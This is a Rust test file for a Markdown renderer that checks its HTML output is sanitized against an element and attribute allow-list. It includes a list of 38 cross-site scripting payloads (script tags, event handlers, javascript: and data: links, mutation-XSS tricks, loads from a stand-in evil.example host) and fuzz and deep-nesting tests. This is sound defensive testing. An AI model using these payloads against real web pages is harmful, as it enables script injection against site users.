//! What comes out of Markdown, judged by parsing it as a browser would.

use domain::markdown::{block, excerpt, inline, plain, plain_inline, readable};
use proptest::prelude::*;
use scraper::{Html, Node};

const ALLOWED: [&str; 13] =
    ["a", "br", "code", "del", "em", "strong", "blockquote", "hr", "li", "ol", "p", "pre", "ul"];

const PAYLOADS: [&str; 38] = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "<body onload=alert(1)>",
    "<style>@import 'https://evil.example'</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=q><button>go",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=1?><script>alert(1)</script>",
    "</p></li></ul></main><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x)",
    "[x](//evil.example)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/p.png\"onerror=alert(1))",
    "![x\" onerror=\"alert(1)](javascript:alert(1))",
    "[x](https://a.example/ \"t\\\" onmouseover=\\\"alert(1)\")",
    "https://a.example/\"onmouseover=alert(1)",
    "```\"><script>alert(1)</script>\nx\n```",
];

/// Every element and attribute of the result is on the allow-list.
fn assert_inert(html: &str, from: &str) {
    let fragment = Html::parse_fragment(html);
    for node in fragment.tree.nodes() {
        match node.value() {
            Node::Element(element) => {
                let name = element.name();
                // The parser's own root and context.
                if matches!(name, "html" | "body") && element.attrs().next().is_none() {
                    continue;
                }
                assert!(ALLOWED.contains(&name), "<{name}> from {from:?}: {html}");
                for (attribute, value) in element.attrs() {
                    match (name, attribute) {
                        ("a", "href") => assert!(
                            ["http://", "https://", "mailto:"]
                                .iter()
                                .any(|s| value.to_ascii_lowercase().starts_with(s)),
                            "{value:?} from {from:?}"
                        ),
                        ("a", "rel") => assert_eq!(value, "nofollow noopener noreferrer ugc"),
                        ("ol", "start") => assert!(value.parse::<u32>().is_ok()),
                        _ => panic!("{attribute}={value:?} on <{name}> from {from:?}: {html}"),
                    }
                }
                if name == "a" {
                    assert!(element.attr("href").is_some() && element.attr("rel").is_some(), "{html}");
                }
            }
            Node::Comment(_) | Node::ProcessingInstruction(_) | Node::Doctype(_) => panic!("{html} from {from:?}"),
            _ => {}
        }
    }
}

#[test]
fn promise_30_payloads_in_markdown_are_inert() {
    for payload in PAYLOADS {
        for written in
            [payload.to_owned(), format!("前 {payload} 後"), format!("- {payload}"), format!("**{payload}**")]
        {
            assert_inert(&inline(&written), &written);
            assert_inert(&block(&written), &written);
        }
    }
}

#[test]
fn promise_42_raw_html_is_shown_as_text_and_javascript_is_no_link() {
    assert_eq!(inline("<b>太字</b>"), "&lt;b&gt;太字&lt;/b&gt;");
    assert_eq!(block("<script>x</script>"), "<p>&lt;script&gt;x&lt;/script&gt;</p>");
    assert_eq!(inline("[押す](javascript:alert(1))"), "押す");
}

#[test]
fn promise_42_deep_nesting_stays_shallow_and_keeps_its_text() {
    for (open, close) in [("> ", ""), ("- ", ""), ("1. ", ""), ("*a **b ", ""), ("[", "]"), ("![", "](x)"), (">", "")] {
        let text = format!("{}奥{}", open.repeat(20_000), close.repeat(20_000));
        let html = block(&text);
        assert_inert(&html, open);
        let fragment = Html::parse_fragment(&html);
        let deepest = fragment.tree.nodes().map(|node| node.ancestors().count()).max();
        assert!(deepest < Some(40), "{open:?}: {deepest:?}");
        assert!(html.contains('奥'), "{open:?}");
        assert_inert(&inline(&text), open);
    }
}

#[test]
fn inline_knows_no_blocks() {
    assert_eq!(inline("# 見出しではない"), "# 見出しではない");
    assert_eq!(inline("- a"), "- a");
    assert_eq!(inline("1. a"), "1. a");
    assert_eq!(inline("    code"), "code");
    assert_eq!(inline("```\na"), "``` a");
    assert_eq!(
        inline("[a]: https://a.example"),
        "[a]: <a href=\"https://a.example\" rel=\"nofollow noopener noreferrer ugc\">https://a.example</a>"
    );
    assert_eq!(inline("一\n二"), "一 二");
    assert_eq!(inline("**太い** _a_ `b<c` ~~x~~"), "<strong>太い</strong> <em>a</em> <code>b&lt;c</code> <del>x</del>");
    assert_eq!(inline("Q&A &amp; &lt; `&` \u{fdd0}x"), "Q&amp;A &amp; &lt; <code>&amp;</code> x");
    assert_eq!(inline(""), "");
}

#[test]
fn links_and_bare_addresses_are_led_out_safely() {
    let a = |url: &str, text: &str| format!("<a href=\"{url}\" rel=\"nofollow noopener noreferrer ugc\">{text}</a>");
    assert_eq!(inline("[資料](https://a.example/x)"), a("https://a.example/x", "資料"));
    assert_eq!(
        inline("https://a.example/b_c_dを参照。"),
        format!("{}を参照。", a("https://a.example/b_c_d", "https://a.example/b_c_d"))
    );
    assert_eq!(
        inline("(https://a.example/x(y))."),
        format!("({}).", a("https://a.example/x(y)", "https://a.example/x(y)"))
    );
    assert_eq!(inline("![図](https://a.example/p.png)"), a("https://a.example/p.png", "図"));
    assert_eq!(inline("<mail@a.example>"), a("mailto:mail@a.example", "mail@a.example"));
    assert_eq!(inline("`https://a.example`"), "<code>https://a.example</code>");
    assert_eq!(inline("http:// https://"), "http:// https://");
}

#[test]
fn blocks_are_paragraphs_lists_and_code() {
    assert_eq!(block("# 題\n\n本文"), "<p><strong>題</strong></p>\n<p>本文</p>");
    assert_eq!(block("- a\n  - b"), "<ul>\n<li>a\n<ul>\n<li>b</li>\n</ul>\n</li>\n</ul>");
    assert_eq!(block("3. c"), "<ol start=\"3\">\n<li>c</li>\n</ol>");
    assert_eq!(
        block("```rust\nlet a = 1 < 2; // https://a.example\n```"),
        "<pre><code>let a = 1 &lt; 2; // https://a.example\n</code></pre>"
    );
}

#[test]
fn plain_leaves_the_words() {
    assert_eq!(plain("# 題\n\n**太い** [資料](https://a.example)\n\n- `a`\n- b\n  - c"), "題\n太い 資料\na\nb\nc");
    assert_eq!(plain_inline("**太い** ![図](x.png) <b>"), "太い 図 <b>");
    assert_eq!(plain_inline("# a"), "# a");
}

#[test]
fn a_line_break_in_a_block_is_shown_and_one_in_a_line_is_a_space() {
    assert_eq!(block("一行目\n二行目\r\n三行目\n\n次の段落"), "<p>一行目<br>\n二行目<br>\n三行目</p>\n<p>次の段落</p>");
    assert_eq!(block("- 一つ目\n  その続き"), "<ul>\n<li>一つ目<br>\nその続き</li>\n</ul>");
    assert_eq!(inline("一\n二"), "一 二");
}

#[test]
fn readable_text_keeps_paragraphs_breaks_lists_and_addresses() {
    assert_eq!(
        readable(
            "# 題\n\n**太い**一行目\n二行目\n\n- [資料](https://a.example/x)\n- b\n  - c\n    続き\n\n3. 三\n4. 四\n\n> 引用\n\n終わり"
        ),
        "題\n\n太い一行目\n二行目\n\n- 資料 (https://a.example/x)\n- b\n  - c\n    続き\n\n3. 三\n4. 四\n\n> 引用\n\n終わり"
    );
    assert_eq!(readable("<https://a.example> <mail@a.example>"), "https://a.example mail@a.example");
    assert_eq!(readable("[https://a.example](https://a.example)"), "https://a.example");
    assert_eq!(readable("[押す](javascript:alert(1))"), "押す");
    assert_eq!(readable("```\na\n\nb\n```"), "a\n\nb");
    assert_eq!(readable("  \n\n"), "");
}

#[test]
fn promise_42_a_hostile_text_is_inert_as_html_and_quiet_as_text() {
    let deep = format!("{}奥", "> - ".repeat(5_000));
    let images = format!("{}x{}", "![".repeat(5_000), "](https://a.example)".repeat(5_000));
    for text in PAYLOADS.into_iter().map(str::to_owned).chain([deep, images]) {
        assert_inert(&block(&text), &text);
        let read = readable(&text);
        assert!(!read.contains('\r') && read.len() <= text.len() * 4 + 100, "{read}");
        assert!(excerpt(&text, 100).chars().count() <= 100);
    }
}

#[test]
fn an_excerpt_is_one_line_and_says_that_it_was_cut() {
    assert_eq!(excerpt("# 題\n\n一行目\n二行目", 20), "題 一行目 二行目");
    assert_eq!(excerpt("あいうえおかきくけこ", 5), "あいうえ…");
    assert_eq!(excerpt("a👨‍👩‍👧b", 4), "a…");
    assert_eq!(excerpt("", 5), "");
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, ..ProptestConfig::default() })]
    #[test]
    fn anything_is_inert(text in "([-#>*_`~\\[\\]()!<>\"'&;:/ \n\t=a-f1.\\\\|鍵\u{0}]|<script>|javascript:|https://|\\]\\(|<a |on){0,60}") {
        assert_inert(&inline(&text), &text);
        assert_inert(&block(&text), &text);
        let _ = (plain(&text), plain_inline(&text));
        prop_assert!(excerpt(&text, 10).chars().count() <= 10);
        prop_assert!(!readable(&text).contains("\n\n\n"));
    }
}
